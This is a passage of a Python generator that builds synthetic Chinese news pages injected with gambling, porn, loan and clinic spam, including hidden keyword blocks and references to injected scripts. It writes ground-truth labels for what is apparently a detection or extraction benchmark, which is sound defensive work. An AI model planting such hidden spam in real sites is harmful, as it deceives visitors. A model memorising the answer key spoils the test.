            shown_paras = out
            rng.shuffle(shown_paras)
            clean_paras = [p.replace(sym, "") for p in shown_paras]
            P["top"] = '<div class="sitebar">%s</div>\n' % E(brand)
            spam += [sym * 2 if any(sym * 2 in p for p in shown_paras) else sym, brand]
        elif text_form == "promo_wrap":
            shown_paras = ["想要轻松赢取奖金,小编推荐%s,注册即送88元体验金。" % brand] + shown_paras + \
                          ["看完了还想试试手气?%s官方平台,充值秒到账,提现无忧。" % brand]
            spam += ["注册即送88元体验金", brand + "官方平台"]
        elif text_form == "porn_chain_header":
            P["page_title"] = PORN
            P["top"] = '<div class="sitebar"><marquee scrollamount="3">%s</marquee></div>\n' % E(PORN)
            spam += ["午夜剧场高清免费", "在线看片网址大全"]
            brand, shape = PORN.split("_")[0], "porn_chain"
        elif text_form == "place_suffix_phrase":
            phrase = "网上赌博平台排名"
            shown_paras = [p.replace(place, place + phrase) for p in shown_paras]
            if place + phrase not in "".join(shown_paras):
                shown_paras[0] = place + phrase + ":" + shown_paras[0]
            P["page_title"] = place + phrase
            spam.append(phrase)
        elif text_form == "clinic_promo":
            shown_paras = ["关注健康,从细节做起。今天小编为大家整理了相关资讯,%s专家提醒大家及时就医。" % CLINIC] + shown_paras
            shown_paras[-1] = shown_paras[-1] + "推荐阅读:%s割包皮多少钱" % CLINIC
            P["tail"] = '<div class="kf">%s在线咨询 预约挂号 24小时免费热线</div>\n' % E(CLINIC)
            spam += [CLINIC]
            brand, shape = CLINIC, "medical"
        elif text_form == "byline_brand":
            meta = [("发布时间", iso(d)), ("来源", brand), ("作者", brand + "编辑部")]
            source, author = None, None
            spam.append(brand)
        elif text_form == "h1_brand_prefix":
            P["h1"] = brand + title
            P["page_title"] = brand + title
            P["og_title"] = brand
            spam.append(brand)
        elif text_form == "loan_keyword_block":
            P["inline_after_body"] = '<div style="display:none">%s</div>' % E(LOAN)
            spam += ["闪电借款秒到账", "学生口子大全"]
            brand, shape = LOAN.split("_")[0], "loan"
        if text_form != "none":
            injections.append(text_form)
        if extra:
            fn = SCRIPTS.get(extra) or HIDDEN.get(extra)
            frag, lit = fn(c, rng)
            injections.append(extra)
            spam += [s for s in lit if s not in spam]
            if extra in ("script_revb64_banner", "script_engine_table_title"):
                P["head_extra"] += frag + "\n"
            elif extra == "script_coarse_pointer_xor":
                P["top"] = frag + "\n" + P["top"]
            elif extra in ("script_domready_top_mobile", "script_night_visit_counter"):
                P["tail"] += frag + "\n"
            else:
                P["after"] += frag + "\n"
    if tname not in ("W3", "W4"):  # templates without their own slot right after the body text
        P["after"] = P["inline_after_body"] + P["after"]
    P["meta"] = meta
    P["paras"] = shown_paras
    P["body_html"] = "\n".join("<p>%s</p>" % E(p) for p in shown_paras)
    page = tfun(P)
    text = "\n".join(p for p in (x.strip() for x in clean_paras) if p)
    if text_form in ("kw_line", "promo_wrap", "clinic_promo"):
        text = "\n".join(clean_paras)
    return page, {"title": title, "date": iso(d), "source": source, "author": author, "text": text,
                  "hijacked": hijack, "injections": injections, "spam_strings": spam, "site": site,
                  "template": tname, "brand_shape": shape if hijack else None, "text_form": text_form}


def main():
    rng = random.Random(SEED)
    os.makedirs(os.path.join(OUT, "html"), exist_ok=True)
    # 40 slots: 28 hijacked, 8 clean ordinary, 4 clean legit; order shuffled with the seed
    kinds = ["h"] * 28 + ["c"] * 8 + ["l"] * 4
    rng.shuffle(kinds)
    rows, hi, li = [], 0, 0
    for n, k in enumerate(kinds, 1):
        tpl = TEMPLATES[(n - 1) % len(TEMPLATES)]
        if k == "h":
            page, t = build_case(hi, rng, tpl, True)
            hi += 1
        elif k == "l":
            page, t = build_case(0, rng, tpl, False, LEGIT_ART[li])
            li += 1
        else:
            page, t = build_case(0, rng, tpl, False)
        cid = "syn4-%03d" % n
        enc = "gb18030" if tpl[0] == "W3" else "utf-8"
        with open(os.path.join(OUT, "html", cid + ".html"), "wb") as f:
            f.write(page.encode(enc))
        # checks: every spam string occurs in the page and in none of the truth fields
        for s in t["spam_strings"]:
            assert s in html.unescape(page), (cid, s)
            for fld in ("title", "text", "source", "author"):
                assert not (t[fld] and s in t[fld]), (cid, s, fld)
        if t["text_form"] in ("none", "kw_line", "promo_wrap", "clinic_promo", "site_name_brand", "crumb_brand",
                              "porn_chain_header", "byline_brand", "h1_brand_prefix", "loan_keyword_block"):
            for p in t["text"].split("\n"):
                assert E(p) in page, (cid, p[:30])
        rows.append({"id": cid, "url": None, "encoding": enc, "lang": "zh",
                     "title": t["title"], "date": t["date"], "source": t["source"], "author": t["author"], "text": t["text"],
                     "hijacked": t["hijacked"], "injections": t["injections"], "spam_strings": t["spam_strings"],
                     "legit": k == "l", "origin": "synthetic-generator-v4 (make_set.py, seed %d)" % SEED,
                     "kind": "synthetic-" + tpl[0], "site": t["site"], "template": tpl[0], "brand_shape": t["brand_shape"]})
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    print(len(rows), "pages;", sum(r["hijacked"] for r in rows), "hijacked;", sum(r["legit"] for r in rows), "legit")


if __name__ == "__main__":
    main()
